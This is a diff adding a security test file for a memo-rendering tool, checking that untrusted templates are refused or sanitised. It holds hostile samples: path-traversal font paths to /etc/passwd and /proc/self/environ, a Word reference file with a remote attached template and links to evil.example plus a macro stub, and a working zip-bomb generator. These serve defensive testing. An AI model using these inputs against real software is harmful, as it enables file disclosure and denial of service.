@@ -1,0 +1,423 @@
+"""Templates are untrusted input: theme.toml, font files and reference.docx are checked.
+
+Each broken template in tests/cases/templates/ (and each made here: links, reference
+documents, a zip bomb) must stop ``briefing render`` with exit 1, a message naming the
+file (with line and column for theme.toml), no traceback and no file written; and
+``briefing templates --check`` must list the problem. The bundled template passes.
+"""
+
+from __future__ import annotations
+
+import io
+import shutil
+import struct
+import subprocess
+import sys
+import zipfile
+import zlib
+from pathlib import Path
+
+import pytest
+from lxml import etree
+
+from briefing.errors import TemplateError
+from briefing.resources import fonts_dir, templates_dir
+from briefing.templates import check_template, load_template
+from briefing.theme import load_theme
+from briefing.tomlpos import locate
+
+ROOT = Path(__file__).resolve().parents[1]
+EXAMPLE = ROOT / "examples" / "us-azerbaijan-charter.yaml"
+CASES = ROOT / "tests" / "cases" / "templates"
+MEMO = templates_dir() / "memo"
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+# case folder -> (line in its theme.toml, words the message must hold)
+THEME_CASES = {
+    "typo-key": (14, "unknown key 'margn_left'; did you mean 'margin_left'?"),
+    "wrong-type": (101, "styles.title.bold: must be true or false"),
+    "page-nan": (10, "page.size: nan is not a finite length"),
+    "page-inf": (10, "page.size: inf is not a finite length"),
+    "page-huge": (10, "page.size: 1000000000.0 is out of range"),
+    "size-zero": (89, "styles.base.size: 0: must be more than 0"),
+    "size-negative": (89, "styles.base.size: -4: must be more than 0"),
+    "size-huge": (102, "styles.title.size: '5000pt': must be more than 0 and at most 72pt"),
+    "margin-negative": (14, "page.margin_left: '-500mm' is out of range"),
+    "margins-wider": (14, "leave less than 1in of text width"),
+    "bad-colour": (46, "colors.navy: '#1F386' is not a colour"),
+    "parent-loop": (150, "parent loop: heading2 -> heading3 -> heading2"),
+    "font-dotdot": (32, "'../../etc/passwd' climbs out of the template folder"),
+    "font-absolute": (32, "'/proc/self/environ' is an absolute path"),
+    "font-not-a-font": (32, "'NotAFont.ttf' is not a TrueType font"),
+}
+
+
+def run(*args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "briefing", *args],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        cwd=ROOT,
+    )
+
+
+def assert_refused(folder: Path, out: Path, *expected: str) -> None:
+    """render: exit 1, the message, no traceback, nothing written; --check lists it."""
+    proc = run("render", str(EXAMPLE), "-t", str(folder), "-o", str(out))
+    assert proc.returncode == 1, proc.stderr
+    for words in expected:
+        assert words in proc.stderr, proc.stderr
+    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr
+    assert not out.exists() or list(out.iterdir()) == []
+    assert proc.stdout == ""
+    check = run("templates", "--check", str(folder))
+    assert check.returncode == 1, check.stderr
+    for words in expected:
+        assert words in check.stderr, check.stderr
+    assert "Traceback" not in check.stderr
+
+
+# -- theme.toml --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("case", sorted(THEME_CASES))
+def test_broken_theme_is_refused_with_its_position(case: str, tmp_path: Path) -> None:
+    line, words = THEME_CASES[case]
+    folder = CASES / case
+    assert_refused(folder, tmp_path / "out", f"{folder}/theme.toml:{line}:", words)
+
+
+def test_every_problem_of_a_theme_is_reported_at_once(tmp_path: Path) -> None:
+    text = (MEMO / "theme.toml").read_text(encoding="utf-8")
+    text = text.replace("rule_width = 0.5", "rule_width = true\nfoo = { a = 1 }")
+    text = text.replace('bullets = ["•", "–", "‣"]', 'bullets = ["•", "", "‣"]')
+    text = text.replace('[styles.toc2]\nparent = "toc1"', '[styles.toc2]\nparent = "nope"')
+    text += "\n[extra]\nx = 1\n"
+    (tmp_path / "theme.toml").write_text(text, encoding="utf-8")
+    with pytest.raises(TemplateError) as caught:
+        load_theme(tmp_path)
+    problems = caught.value.problems
+    assert [p.field for p in problems] == [
+        "page.rule_width", "page.foo", "lists.bullets", "styles.toc2.parent", "extra",
+    ]  # fmt: skip
+    lines = [p.position.line for p in problems if p.position]
+    assert lines == sorted(lines) and len(lines) == 5
+    assert all(p.position and p.position.file == str(tmp_path / "theme.toml") for p in problems)
+
+
+def test_toml_syntax_error_has_line_and_column(tmp_path: Path) -> None:
+    lines = (MEMO / "theme.toml").read_text(encoding="utf-8").splitlines()
+    lines[9] = 'size = "A4'  # line 10: an unterminated string
+    (tmp_path / "theme.toml").write_text("\n".join(lines), encoding="utf-8")
+    problems = check_template(str(tmp_path))
+    assert len(problems) == 1
+    assert str(problems[0]).startswith(f"{tmp_path}/theme.toml:10:11: TOML syntax:")
+
+
+def test_locator_finds_keys_tomllib_does_not_place() -> None:
+    text = (
+        'a = """x\n[fake]\ny = 1"""\n'
+        "b.c = { d = 1, \"e f\" = [1,\n  2], g = {h = 'x'} }\n"
+        "arr = [ {p = 1},\n {q = 2} ] # [not.a.table]\n"
+        '[t."q.k"]\n'
+        "z = 1979-05-27 07:32:00 # a date with a space\n"
+    )
+    found = locate(text)
+    assert found[("a",)] == (1, 1)
+    assert ("fake",) not in found and ("y",) not in found
+    assert found[("b", "c")] == (4, 1)
+    assert found[("b", "c", "d")] == (4, 9)
+    assert found[("b", "c", "e f")] == (4, 16)
+    assert found[("b", "c", "g", "h")] == (5, 12)
+    assert found[("t", "q.k")] == (8, 1)
+    assert found[("t", "q.k", "z")] == (9, 1)
+
+
+def test_bundled_template_passes_check_and_is_typed() -> None:
+    proc = run("templates", "--check", str(MEMO))
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.strip() == f"{MEMO}: ok"
+    listed = run("templates")
+    assert listed.stdout.startswith("memo\tSober ministry memo")
+    theme = load_template("memo").theme
+    assert (round(theme.page.width, 2), round(theme.page.height, 2)) == (595.28, 841.89)
+    assert theme.styles["heading3"].bold and theme.styles["heading3"].italic  # inherited
+    assert theme.styles["heading3"].color == theme.colors["text"]
+    assert theme.fonts.stack == ("sans", "serif")
+    assert theme.fonts.families["sans"].regular == fonts_dir() / "NotoSans-Regular.ttf"
+    assert theme.marking_color("confidential") == "#C62828"
+    assert theme.marking_color("eyes only") == theme.classification["custom"]
+
+
+def test_landscape_and_units(tmp_path: Path) -> None:
+    text = (MEMO / "theme.toml").read_text(encoding="utf-8")
+    text = text.replace('size = "A4"', 'size = "Letter-landscape"', 1)
+    text = text.replace('margin_left = "25mm"', 'margin_left = "1in"')
+    (tmp_path / "theme.toml").write_text(text, encoding="utf-8")
+    page = load_theme(tmp_path).page
+    assert (page.width, page.height, page.margin_left) == (792.0, 612.0, 72.0)
+
+
+# -- font files ----------------------------------------------------------------------------
+
+
+def _theme_with_regular(folder: Path, name: str) -> None:
+    text = (MEMO / "theme.toml").read_text(encoding="utf-8")
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "theme.toml").write_text(
+        text.replace('regular = "NotoSans-Regular.ttf"', f'regular = "{name}"'), encoding="utf-8"
+    )
+
+
+def test_font_link_that_leads_outside_is_refused(tmp_path: Path) -> None:
+    folder = tmp_path / "tpl"
+    _theme_with_regular(folder, "Linked.ttf")
+    (folder / "Linked.ttf").symlink_to("/etc/passwd")
+    assert_refused(
+        folder, tmp_path / "out", f"{folder}/theme.toml:32:", "'Linked.ttf' is a link that leads"
+    )
+    # a font folder that is itself a link outside is refused the same way
+    (folder / "Linked.ttf").unlink()
+    (folder / "fonts").symlink_to(fonts_dir())
+    _theme_with_regular(folder, "NotoSans-Bold.ttf")  # also bundled, but found first here
+    with pytest.raises(TemplateError, match="leads outside the template folder"):
+        load_theme(folder)
+
+
+def test_font_inside_the_folder_is_used(tmp_path: Path) -> None:
+    folder = tmp_path / "tpl"
+    _theme_with_regular(folder, "fonts/Body.ttf")
+    (folder / "fonts").mkdir()
+    shutil.copy(fonts_dir() / "NotoSerif-Regular.ttf", folder / "fonts" / "Body.ttf")
+    (folder / "Alias.ttf").symlink_to(folder / "fonts" / "Body.ttf")  # a link inside is fine
+    theme = load_theme(folder)
+    assert theme.fonts.families["sans"].regular == (folder / "fonts" / "Body.ttf").resolve()
+    _theme_with_regular(folder, "Alias.ttf")
+    assert load_theme(folder).fonts.families["sans"].regular.name == "Body.ttf"
+
+
+def test_truncated_font_is_refused(tmp_path: Path) -> None:
+    folder = tmp_path / "tpl"
+    _theme_with_regular(folder, "Cut.ttf")
+    data = (fonts_dir() / "NotoSans-Regular.ttf").read_bytes()
+    (folder / "Cut.ttf").write_bytes(data[:2000])
+    problems = check_template(str(folder))
+    assert len(problems) == 1 and "'Cut.ttf' is truncated" in str(problems[0])
+
+
+# -- reference.docx ------------------------------------------------------------------------
+
+
+def memo_parts() -> dict[str, bytes]:
+    with zipfile.ZipFile(MEMO / "reference.docx") as z:
+        return {name: z.read(name) for name in z.namelist()}
+
+
+def write_docx(path: Path, parts: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in parts.items():
+            z.writestr(name, data)
+
+
+def template_with_reference(folder: Path, write: object) -> Path:
+    folder.mkdir(parents=True)
+    shutil.copy(MEMO / "theme.toml", folder / "theme.toml")
+    if isinstance(write, bytes):
+        (folder / "reference.docx").write_bytes(write)
+    else:
+        write_docx(folder / "reference.docx", write)  # type: ignore[arg-type]
+    return folder
+
+
+def test_reference_that_is_not_a_zip_is_refused(tmp_path: Path) -> None:
+    folder = template_with_reference(tmp_path / "tpl", b"PK\x03\x04 but not really a zip")
+    reference = folder / "reference.docx"
+    assert_refused(folder, tmp_path / "out", f"{reference}: not a Word document")
+
+
+def test_reference_without_heading_1_is_refused(tmp_path: Path) -> None:
+    parts = memo_parts()
+    styles = etree.fromstring(parts["word/styles.xml"])
+    for style in styles.findall(f"{{{W}}}style"):
+        if style.get(f"{{{W}}}styleId") == "Heading1":
+            styles.remove(style)
+    parts["word/styles.xml"] = etree.tostring(styles, xml_declaration=True, encoding="UTF-8")
+    folder = template_with_reference(tmp_path / "tpl", parts)
+    assert_refused(
+        folder, tmp_path / "out", f"{folder / 'reference.docx'}: lacks the paragraph style "
+        "'Heading 1', which the DOCX renderer needs"
+    )  # fmt: skip
+
+
+def _hostile_parts() -> dict[str, bytes]:
+    """The memo reference with an attached template fetched by URL, a macro project, an
+    external link from the body and a header: none of it may reach a memo."""
+    parts = memo_parts()
+    settings = etree.fromstring(parts["word/settings.xml"])
+    attached = etree.SubElement(settings, f"{{{W}}}attachedTemplate")
+    attached.set(f"{{{R}}}id", "rId1")
+    settings.insert(1, attached)
+    parts["word/settings.xml"] = etree.tostring(settings)
+    parts["word/_rels/settings.xml.rels"] = (
+        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+        "</Relationships>"
+    ).encode()
+    rels = parts["word/_rels/document.xml.rels"].decode()
+    rels = rels.replace(
+        "</Relationships>",
+        '<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/'
+        'relationships/vbaProject" Target="vbaProject.bin"/>'
+        '<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/'
+        '2006/relationships/hyperlink" Target="http://evil.example/" TargetMode="External"/>'
+        '<Relationship Id="rId92" Type="http://schemas.openxmlformats.org/officeDocument/'
+        '2006/relationships/styles" Target="http://evil.example/s.xml" TargetMode="External"/>'
+        "</Relationships>",
+    )
+    parts["word/_rels/document.xml.rels"] = rels.encode()
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
+    types = (
+        parts["[Content_Types].xml"]
+        .decode()
+        .replace(
+            "</Types>",
+            '<Override PartName="/word/vbaProject.bin" '
+            'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+        )
+    )
+    parts["[Content_Types].xml"] = types.encode()
+    document = (
+        parts["word/document.xml"]
+        .decode()
+        .replace(
+            "<w:body>",
+            '<w:body><w:p><w:hyperlink r:id="rId91"><w:r><w:t>click</w:t></w:r>'
+            "</w:hyperlink></w:p>",
+        )
+    )
+    parts["word/document.xml"] = document.encode()
+    return parts
+
+
+def test_reference_with_attached_template_and_macros_renders_clean(tmp_path: Path) -> None:
+    folder = template_with_reference(tmp_path / "tpl", _hostile_parts())
+    out = tmp_path / "out"
+    proc = run("render", str(EXAMPLE), "-t", str(folder), "-f", "docx", "-o", str(out))
+    assert proc.returncode == 0, proc.stderr
+    assert run("templates", "--check", str(folder)).returncode == 0
+    with zipfile.ZipFile(out / "us-azerbaijan-charter.en.docx") as memo:
+        names = memo.namelist()
+        assert not [n for n in names if "vba" in n.lower() or n.endswith(".bin")], names
+        texts = {n: memo.read(n) for n in names if n.endswith((".xml", ".rels"))}
+    for name, data in texts.items():
+        assert b"evil.example" not in data, name
+        assert b"attachedTemplate" not in data and b"click" not in data, name
+        assert b"vbaProject" not in data, name
+    for name in (n for n in texts if n.endswith(".rels")):
+        for rel in etree.fromstring(texts[name]):
+            if rel.get("TargetMode") == "External":  # only the brief's own links
+                assert rel.get("Type").endswith("/hyperlink"), name
+                assert rel.get("Target").startswith("https://"), rel.get("Target")
+
+
+# -- a zip bomb ------------------------------------------------------------------------------
+
+GIB = 1 << 30
+
+
+def _zip_with_bomb(path: Path, parts: dict[str, bytes], bomb: str) -> None:
+    """A zip of ``parts`` plus ``bomb``: 1 GiB of zeros deflated to about 1 MB.
+
+    Written by hand: the deflate stream is one fully flushed 1 MiB block repeated, so
+    making it takes a second, not the ten zipfile would need to compress a gigabyte.
+    """
+    chunk = bytes(1 << 20)
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
+    crc = 0
+    for _ in range(GIB // len(chunk)):
+        crc = zlib.crc32(chunk, crc)
+    end = b"\x03\x00"  # a final, empty fixed-Huffman block
+    entries: list[tuple[str, int, int, int, list[bytes]]] = []
+    for name, data in parts.items():
+        packed = zlib.compressobj(6, zlib.DEFLATED, -15)
+        body = packed.compress(data) + packed.flush()
+        entries.append((name, zlib.crc32(data), len(body), len(data), [body]))
+    entries.append((bomb, crc, len(block) * (GIB // len(chunk)) + len(end), GIB,
+                    [block] * (GIB // len(chunk)) + [end]))  # fmt: skip
+    with path.open("wb") as out:
+        central = b""
+        for name, crc32, size, raw_size, bodies in entries:
+            offset = out.tell()
+            raw = name.encode()
+            out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc32, size,
+                                  raw_size, len(raw), 0) + raw)  # fmt: skip
+            for body in bodies:
+                out.write(body)
+            central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33,
+                                   crc32, size, raw_size, len(raw), 0, 0, 0, 0, 0,
+                                   offset) + raw  # fmt: skip
+        start = out.tell()
+        out.write(central)
+        out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
+                              len(central), start, 0))  # fmt: skip
+
+
+MEASURE = """
+import resource, subprocess, sys
+resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, 1536 << 20))
+proc = subprocess.run(sys.argv[1:], capture_output=True, text=True)
+sys.stderr.write(proc.stderr)
+print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)  # KiB, the largest child
+sys.exit(proc.returncode)
+"""
+
+
+def _render_measured(folder: Path, out: Path) -> tuple[int, str, int]:
+    """Exit status, stderr and peak memory (KiB) of a render under a 1.5 GB limit."""
+    proc = subprocess.run(
+        [sys.executable, "-c", MEASURE, sys.executable, "-m", "briefing", "render",
+         str(EXAMPLE), "-t", str(folder), "-o", str(out)],
+        capture_output=True, text=True, timeout=300, cwd=ROOT,
+    )  # fmt: skip
+    return proc.returncode, proc.stderr, int(proc.stdout.strip().splitlines()[-1])
+
+
+@pytest.mark.parametrize("bomb", ["word/styles.xml", "word/media/bomb.bin"])
+def test_zip_bomb_is_never_inflated(bomb: str, tmp_path: Path) -> None:
+    folder = tmp_path / "tpl"
+    folder.mkdir()
+    shutil.copy(MEMO / "theme.toml", folder / "theme.toml")
+    parts = {k: v for k, v in memo_parts().items() if k != bomb}
+    _zip_with_bomb(folder / "reference.docx", parts, bomb)
+    assert (folder / "reference.docx").stat().st_size < 5_000_000
+    with zipfile.ZipFile(folder / "reference.docx") as z:  # a real bomb: 1 GiB inside
+        assert z.getinfo(bomb).file_size == GIB
+    out = tmp_path / "out"
+    code, stderr, peak_kib = _render_measured(folder, out)
+    assert peak_kib < 400 * 1024, peak_kib
+    assert "Traceback" not in stderr and "internal error" not in stderr
+    if bomb == "word/styles.xml":  # a part the renderer needs: refused, nothing written
+        assert code == 1, stderr
+        assert "part word/styles.xml is larger than 20 MB uncompressed" in stderr
+        assert not out.exists() or list(out.iterdir()) == []
+    else:  # a part it does not use: never read, not in the memo
+        assert code == 0, stderr
+        with zipfile.ZipFile(out / "us-azerbaijan-charter.en.docx") as memo:
+            assert not [n for n in memo.namelist() if "bomb" in n]
+
+
+def test_clean_reference_of_the_memo_holds_only_known_parts() -> None:
+    from briefing.renderers.docx.reference import clean_reference
+
+    with zipfile.ZipFile(io.BytesIO(clean_reference(MEMO / "reference.docx"))) as z:
+        assert sorted(z.namelist()) == sorted([
+            "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels",
+            "word/document.xml", "word/styles.xml", "word/numbering.xml",
+            "word/settings.xml", "word/webSettings.xml", "word/fontTable.xml",
+            "word/theme/theme1.xml", "docProps/core.xml", "docProps/app.xml",
+        ])  # fmt: skip
